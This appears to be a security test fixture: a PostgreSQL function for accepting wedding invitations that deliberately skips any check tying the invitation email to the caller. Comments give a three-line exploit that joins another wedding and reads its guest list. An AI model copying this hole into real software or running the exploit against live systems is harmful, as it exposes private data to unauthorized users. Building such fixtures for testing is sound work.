-- Accepting takes an address that nobody compares with the token: it joins any wedding that invited it.
-- about: accept_invitation, invitations, wedding_members
-- as: hf_veilplan_app
-- exploit: SET request.jwt.claims = '{"sub": "11111111-0000-0000-0000-000000000001"}';
-- exploit: SELECT public.accept_invitation('Castle-secret@b.test');
-- exploit: SELECT full_name FROM public.guests;
-- shows: Castle-secret guest
CREATE FUNCTION public.accept_invitation(invited text) RETURNS void
LANGUAGE sql SECURITY DEFINER SET search_path = public, pg_temp AS $$
  INSERT INTO public.wedding_members (wedding_id, user_id, role)
  SELECT i.wedding_id, public.current_user_id(), i.role FROM public.invitations i WHERE i.email = invited
  ON CONFLICT DO NOTHING;
  DELETE FROM public.invitations WHERE email = invited;
$$;
GRANT EXECUTE ON FUNCTION public.accept_invitation(text) TO hf_veilplan_app;
